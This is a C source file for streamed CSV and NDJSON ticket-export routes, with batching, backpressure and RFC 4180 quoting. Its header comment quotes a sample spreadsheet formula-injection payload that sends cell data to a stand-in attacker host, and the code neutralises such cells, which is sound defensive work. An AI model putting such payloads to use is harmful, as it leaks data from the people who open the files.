/* routes_export.c - GET /api/tickets/export.csv and /api/tickets/export.ndjson:
 * every ticket matching the filters of /api/tickets, streamed.
 *
 * Flat memory for any number of tickets: the tickets are read in batches
 * (at most EXPORT_BATCH_DOCS documents or about EXPORT_BATCH_BYTES of
 * output each) on the threadpool, one batch in flight at a time, while the
 * previous batch is being written. The next write starts only when the
 * socket has taken the previous chunk (tk_http_stream_write's callback), so
 * a slow client slows the reads down instead of filling memory: at most
 * three batches exist at once (being fetched, waiting, being sent).
 *
 * The export is one find (sorted on the keyset of query_filter.h, so it
 * lists every ticket once) whose server cursor is kept open across the
 * batches, together with the pooled client that owns it: each batch is a
 * few mongoc_cursor_next calls on a threadpool thread, never two at once,
 * so the client is only ever used by one thread at a time. Asking for every
 * batch as its own keyset query would hold nothing between batches, but
 * FerretDB 1.24 (SQLite) sorts and scans the whole collection for each such
 * query: 100 batches of a 100,000-ticket export cost 100 full scans there
 * (about 12 s each, measured) against one. Because each running export
 * holds a pooled client, at most EXPORT_MAX_RUNNING run at once; more get
 * 503 with Retry-After. A client that stops reading for longer than the
 * server keeps an idle cursor (10 minutes on MongoDB) gets the error line
 * below.
 *
 * The CSV follows RFC 4180: a header row, CRLF line ends, a field quoted
 * when it holds a quote, comma, CR or LF (or starts or ends with a space),
 * quotes inside doubled. topic_tags are joined with ';'. Times are ISO-8601
 * UTC. Fields a ticket does not have (classification of an unprocessed
 * ticket) are empty. NDJSON lines are the JSON of GET /api/tickets/{id}.
 *
 * CSV files are opened in spreadsheets, which run a cell that starts with
 * '=', '+', '-', '@', a tab or a CR as a formula: a subject such as
 * =HYPERLINK("http://evil.example/?"&A1,"click") would run on the support
 * lead's machine. So every text cell (id, subject, body, source, labels,
 * model and agent versions, last error) that starts with one of them gets
 * a leading "'" (OWASP's advice for CSV injection), which spreadsheets show
 * as text. The numbers the export writes itself (confidence scores,
 * processing time, attempts) and its timestamps are left as they are: a
 * number, even a negative one, is read as a number, not a formula. NDJSON
 * is data for programs and is not changed.
 *
 * A database error after the first batch cannot change the status any
 * more: the stream then ends with a last line saying the export is
 * incomplete ({"error":...} in NDJSON, "#error,<message>" in CSV). */
#include "api.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "log.h"
#include "store_async.h"
#include "ticket_bson.h"
#include "timeutil.h"

#define EXPORT_BATCH_DOCS 1000
#define EXPORT_BATCH_BYTES (1024 * 1024)
#define EXPORT_MAX_RUNNING 4
#define EXPORT_RETRY_AFTER_MS 5000 /* when an export cannot start now */

static unsigned running; /* exports in progress (loop thread only) */

static const char csv_header[] =
   "id,subject,body,source,processed,created_at,updated_at,topic_tags,sentiment,priority,"
   "confidence_topic,confidence_sentiment,confidence_priority,processed_at,model_version,"
   "processing_time_ms,agent_version,processing_attempts,last_error,corrected_at,needs_review\r\n";

typedef struct {
   api_t *api;
   tk_http_request_t *req;
   tk_query_t q;
   bool csv;

   /* Worker side (touched by the loop only while no fetch is in flight). */
   tk_buf_t fetched;
   mongoc_client_t *client; /* popped from the pool for the export's cursor */
   mongoc_cursor_t *cursor;
   bool more;   /* more batches after the ones fetched */
   bool failed; /* the last fetch failed (its text says so) */
   uint64_t rows;

   /* Loop side. */
   tk_buf_t ready; /* fetched, waiting for the socket */
   bool have_ready;
   bool fetching;
   bool writing;
   bool gone;
   bool started; /* the stream has begun */
   char first_error[600];
} export_t;

/* Frees x; its cursor and client must be released already (close_work). */
static void
export_free (void *p)
{
   export_t *x = p;
   if (x) {
      tk_query_cleanup (&x->q);
      tk_buf_destroy (&x->fetched);
      tk_buf_destroy (&x->ready);
      free (x);
   }
}

/* ---- formatting ---------------------------------------------------------- */

/* Appends s as one CSV field (after a comma unless it is the first);
 * text from a ticket is neutralised against formula injection (see the
 * top), values the export formats itself are not. */
static bool
csv_cell (tk_buf_t *b, const char *s, bool comma, bool text)
{
   bool ok = !comma || tk_buf_append (b, ",", 1);
   if (!s || !*s) {
      return ok;
   }
   size_t len = strlen (s);
   bool neutralise = text && strchr ("=+-@\t\r", s[0]);
   bool quote = strpbrk (s, "\",\r\n") || s[0] == ' ' || s[len - 1] == ' ';
   if (!quote) {
      return ok && (!neutralise || tk_buf_append (b, "'", 1)) && tk_buf_append (b, s, len);
   }
   ok = ok && tk_buf_append (b, neutralise ? "\"'" : "\"", neutralise ? 2 : 1);
   for (const char *p = s; ok && *p;) {
      const char *q = strchr (p, '"');
      size_t n = q ? (size_t) (q - p) + 1 : strlen (p);
      ok = tk_buf_append (b, p, n) && (!q || tk_buf_append (b, "\"", 1));
      p += n;
   }
   return ok && tk_buf_append (b, "\"", 1);
}

/* A cell of ticket text (neutralised). */
static bool
csv_field (tk_buf_t *b, const char *s, bool comma)
{
   return csv_cell (b, s, comma, true);
}

/* A cell the export formats itself: a number, a time, true/false. */
static bool
csv_value (tk_buf_t *b, const char *s, bool comma)
{
   return csv_cell (b, s, comma, false);
}

static void
format_number (double v, char *buf, size_t cap)
{
   /* The shortest form that reads back as the same double. */
   snprintf (buf, cap, "%.15g", v);
   if (strtod (buf, NULL) != v) {
      snprintf (buf, cap, "%.17g", v);
   }
}

static bool
csv_time (tk_buf_t *b, int64_t ms)
{
   char iso[TK_TIME_ISO_BUFSIZE] = "";
   if (ms && !tk_time_format_iso (ms, iso, sizeof iso)) {
      iso[0] = '\0';
   }
   return csv_value (b, iso, true);
}

static bool
csv_row (tk_buf_t *b, const tk_ticket_t *t)
{
   char num[64];
   bool ok = csv_field (b, t->id, false) && csv_field (b, t->subject, true) &&
             csv_field (b, t->body, true) && csv_field (b, t->source, true) &&
             csv_value (b, t->processed ? "true" : "false", true) &&
             csv_time (b, t->created_at) && csv_time (b, t->updated_at);
   if (!ok) {
      return false;
   }
   if (!t->processed) {
      /* topic_tags .. agent_version: ten empty fields. */
      ok = tk_buf_append_str (b, ",,,,,,,,,,");
   } else {
      tk_buf_t tags = TK_BUF_INIT;
      for (size_t i = 0; ok && i < t->classification.n_topic_tags; i++) {
         ok = (i == 0 || tk_buf_append (&tags, ";", 1)) &&
              tk_buf_append_str (&tags, t->classification.topic_tags[i]);
      }
      ok = ok && csv_field (b, tags.data, true);
      tk_buf_destroy (&tags);
      ok = ok && csv_field (b, t->classification.sentiment, true) &&
           csv_field (b, t->classification.priority, true);
      double conf[3] = {t->confidence.topic, t->confidence.sentiment, t->confidence.priority};
      for (int i = 0; ok && i < 3; i++) {
         format_number (conf[i], num, sizeof num);
         ok = csv_value (b, num, true);
      }
      snprintf (num, sizeof num, "%lld", (long long) t->metadata.processing_time_ms);
      ok = ok && csv_time (b, t->metadata.processed_at) &&
           csv_field (b, t->metadata.model_version, true) && csv_value (b, num, true) &&
           csv_field (b, t->metadata.agent_version, true);
   }
   snprintf (num, sizeof num, "%d", (int) t->processing_attempts);
   /* corrected_at: when a person last corrected its labels, "" if never;
    * needs_review: whether it waits in the review queue. */
   return ok && csv_value (b, num, true) && csv_field (b, t->last_error, true) &&
          csv_time (b, t->metadata.corrected_at) &&
          csv_value (b, t->metadata.needs_review ? "true" : "false", true) &&
          tk_buf_append (b, "\r\n", 2);
}

static bool
ndjson_row (tk_buf_t *b, const bson_t *doc, tk_error_t *err)
{
   cJSON *json = api_ticket_doc_json (doc, err);
   if (!json) {
      return true; /* unreadable document: skipped, as in the listing */
   }
   char *text = cJSON_PrintUnformatted (json);
   cJSON_Delete (json);
   bool ok = text && tk_buf_append_str (b, text) && tk_buf_append (b, "\n", 1);
   cJSON_free (text);
   return ok;
}

static void
error_line (export_t *x, const char *message)
{
   if (x->csv) {
      tk_buf_appendf (&x->fetched, "#error,export incomplete: %s\r\n", message);
   } else {
      cJSON *o = cJSON_CreateObject ();
      cJSON *e = cJSON_AddObjectToObject (o, "error");
      cJSON_AddStringToObject (e, "code", "unavailable");
      cJSON_AddStringToObject (e, "message", "export incomplete");
      cJSON_AddStringToObject (e, "detail", message);
      char *text = cJSON_PrintUnformatted (o);
      if (text) {
         tk_buf_append_str (&x->fetched, text);
         tk_buf_append (&x->fetched, "\n", 1);
      }
      cJSON_free (text);
      cJSON_Delete (o);
   }
}

/* ---- fetching (threadpool) ---------------------------------------------- */

/* Destroys the cursor and gives the client back (threadpool: both may
 * talk to the server). */
static void
release_cursor (export_t *x, tk_store_t *store)
{
   mongoc_cursor_destroy (x->cursor);
   x->cursor = NULL;
   tk_store_client_push (store, x->client);
   x->client = NULL;
}

/* Reads the next batch into x->fetched, opening the cursor on the first
 * call. At the end of the tickets, or on an error (x->failed, message in
 * err_out), the cursor is released. */
static bool
fetch_batch (export_t *x, tk_store_t *store, char *err_out, size_t cap)
{
   bson_error_t e;
   tk_error_t err;
   if (!x->cursor) {
      x->client = tk_store_client_pop (store);
      bson_t filter, sort;
      tk_query_page_filter (&x->q, &filter);
      tk_query_sort_doc (&x->q, &sort);
      const tk_ticket_query_t q = {.filter = &filter, .sort = &sort, .batch_size = 500};
      x->cursor = tk_store_tickets_find (x->client, tk_store_db_name (store), &q);
      bson_destroy (&sort);
      bson_destroy (&filter);
   }
   const bson_t *doc;
   size_t n = 0;
   bool ok = true, ended = true;
   while (ok && n < EXPORT_BATCH_DOCS && x->fetched.len < EXPORT_BATCH_BYTES) {
      if (!mongoc_cursor_next (x->cursor, &doc)) {
         ended = true;
         break;
      }
      ended = false;
      n++;
      if (x->csv) {
         tk_ticket_t *t = NULL;
         if (tk_ticket_from_bson (doc, &t, &err)) {
            ok = csv_row (&x->fetched, t);
            x->rows++;
         }
         tk_ticket_destroy (t);
      } else {
         size_t before = x->fetched.len;
         ok = ndjson_row (&x->fetched, doc, &err);
         x->rows += x->fetched.len > before;
      }
   }
   if (!ok) {
      snprintf (err_out, cap, "out of memory");
      x->failed = true;
   } else if (mongoc_cursor_error (x->cursor, &e)) {
      snprintf (err_out, cap, "database: %s", e.message);
      x->failed = true;
   }
   x->more = !x->failed && !ended && mongoc_cursor_more (x->cursor);
   if (!x->more) {
      release_cursor (x, store);
   }
   return !x->failed;
}

static void pump (export_t *x);

static void
fetch_work (tk_store_t *store, void *ctx)
{
   export_t *x = ctx;
   char msg[600];
   if (!fetch_batch (x, store, msg, sizeof msg)) {
      snprintf (x->first_error, sizeof x->first_error, "%s", msg);
      if (x->started) {
         TK_WARN ("export", "export stopped after %llu rows: %s", (unsigned long long) x->rows,
                  msg);
         error_line (x, msg);
      }
   }
}

/* The client hung up while the cursor was open: release it off the loop. */
static void
close_work (tk_store_t *store, void *ctx)
{
   export_t *x = ctx;
   if (x->cursor) {
      release_cursor (x, store);
   }
}

static void
close_done (int status, void *ctx)
{
   (void) status;
   export_t *x = ctx;
   tk_http_stream_end (x->req);
   export_free (x);
   running--;
}

/* Ends the export: the stream (if begun) and the export's memory. */
static void
finish (export_t *x)
{
   if (x->cursor &&
       tk_store_async (x->api->app->loop, x->api->app->store, close_work, close_done, x) == 0) {
      return;
   }
   /* (If even that cannot be queued, the cursor and client leak rather
    * than block the loop.) */
   tk_http_stream_end (x->req);
   export_free (x);
   running--;
}

static void begin_stream (export_t *x);

static void
fetch_done (int status, void *ctx)
{
   export_t *x = ctx;
   x->fetching = false;
   if (!x->started) {
      /* The first batch: nothing sent yet, so a failure is a proper error
       * status. (A cancelled first fetch never opened the cursor.) */
      if (status != 0 || x->failed) {
         tk_http_add_retry_after (x->req, EXPORT_RETRY_AFTER_MS);
         api_respond_error (x->req, 503, "unavailable", NULL,
                            status != 0 ? "the request was cancelled" : x->first_error);
         export_free (x);
         running--;
         return;
      }
      begin_stream (x);
      return;
   }
   if (status != 0) {
      x->more = false;
      error_line (x, "cancelled");
   }
   /* Hand the batch to the loop side. */
   tk_buf_t t = x->ready;
   x->ready = x->fetched;
   x->fetched = t;
   tk_buf_reset (&x->fetched);
   x->have_ready = true;
   pump (x);
}

/* ---- streaming (loop) ------------------------------------------------------ */

static void
written (tk_http_request_t *req, int status, void *user_data)
{
   (void) req;
   export_t *x = user_data;
   x->writing = false;
   if (status < 0) {
      x->gone = true;
   }
   pump (x);
}

static void
pump (export_t *x)
{
   if (x->gone) {
      if (!x->fetching && !x->writing) {
         finish (x);
      }
      return;
   }
   if (!x->writing && x->have_ready) {
      x->have_ready = false;
      if (x->ready.len) {
         int rc = tk_http_stream_write (x->req, x->ready.data, x->ready.len, written, x);
         tk_buf_reset (&x->ready); /* the chunk was copied */
         if (rc != 0) {
            x->gone = true;
            pump (x);
            return;
         }
         x->writing = true;
      }
   }
   if (!x->fetching && !x->have_ready && x->more) {
      x->fetching = true;
      int rc = tk_store_async (x->api->app->loop, x->api->app->store, fetch_work, fetch_done, x);
      if (rc != 0) {
         x->fetching = false;
         x->more = false;
         error_line (x, uv_strerror (rc));
         tk_buf_t t = x->ready;
         x->ready = x->fetched;
         x->fetched = t;
         x->have_ready = true;
      }
   }
   if (!x->writing && !x->fetching && !x->have_ready && !x->more) {
      finish (x);
   }
}

/* ---- the route ------------------------------------------------------------ */

static void
export_first_work (api_call_t *call, mongoc_client_t *client, const char *db)
{
   (void) client;
   (void) db;
   export_t *x = call->data;
   call->audit_detail = cJSON_CreateObject ();
   cJSON_AddStringToObject (call->audit_detail, "format", x->csv ? "csv" : "ndjson");
   call->status = 200; /* the key may export: the batches follow on the loop */
}

/* Starts the stream with the first batch, already in x->fetched. */
static void
begin_stream (export_t *x)
{
   x->started = true;
   tk_http_add_header (x->req, "Content-Disposition",
                       x->csv ? "attachment; filename=\"tickets.csv\""
                              : "attachment; filename=\"tickets.ndjson\"");
   int rc = tk_http_stream_begin (x->req, 200,
                                  x->csv ? "text/csv; charset=utf-8" : "application/x-ndjson");
   tk_buf_t t = x->ready;
   x->ready = x->fetched;
   x->fetched = t;
   x->have_ready = true;
   if (rc != 0) {
      x->gone = true;
   }
   pump (x);
}

static void
export_start (api_call_t *call)
{
   export_t *x = call->data;
   call->data = NULL; /* the export owns itself now */
   api_call_free (call);
   if (running >= EXPORT_MAX_RUNNING) {
      tk_http_add_retry_after (x->req, EXPORT_RETRY_AFTER_MS);
      api_respond_error (x->req, 503, "unavailable", NULL,
                         "too many exports are running; retry shortly");
      export_free (x);
      return;
   }
   running++;
   if (x->csv && !tk_buf_append_str (&x->fetched, csv_header)) {
      api_respond_error (x->req, 500, "internal", NULL, "out of memory");
      export_free (x);
      running--;
      return;
   }
   x->fetching = true;
   int rc = tk_store_async (x->api->app->loop, x->api->app->store, fetch_work, fetch_done, x);
   if (rc != 0) {
      api_respond_error (x->req, 503, "unavailable", NULL, uv_strerror (rc));
      export_free (x);
      running--;
   }
}

static void
export_get (tk_http_request_t *req, api_t *api, bool csv)
{
   tk_query_param_t *params = NULL;
   size_t n = 0;
   tk_error_t err;
   if (!api_check_request (req, false) || !api_query_params (req, &params, &n)) {
      return;
   }
   export_t *x = calloc (1, sizeof *x);
   if (!x) {
      api_respond_error (req, 500, "internal", NULL, "out of memory");
      return;
   }
   x->api = api;
   x->req = req;
   x->csv = csv;
   if (!tk_query_build (&x->q, params, n, api->tax, TK_QUERY_ALLOW_SORT, NULL, &err)) {
      free (x);
      api_respond_error (req, 400, "invalid", err.field, err.message);
      return;
   }
   api_call_t *call = api_call_new (api, req, csv ? "tickets.export_csv" : "tickets.export_ndjson",
                                    TK_ROLE_OPERATOR, true, export_first_work);
   call->data = x;
   call->free_data = export_free;
   call->done = export_start;
   api_call_run (call);
}

static void
export_csv (tk_http_request_t *req, void *user_data)
{
   export_get (req, user_data, true);
}

static void
export_ndjson (tk_http_request_t *req, void *user_data)
{
   export_get (req, user_data, false);
}

bool
api_routes_export (api_t *api, tk_error_t *err)
{
   return api_route (api, "GET", "/api/tickets/export.csv", TK_ROLE_OPERATOR, TK_HTTP_BODY_NONE,
                     export_csv, err) &&
          api_route (api, "GET", "/api/tickets/export.ndjson", TK_ROLE_OPERATOR, TK_HTTP_BODY_NONE,
                     export_ndjson, err);
}
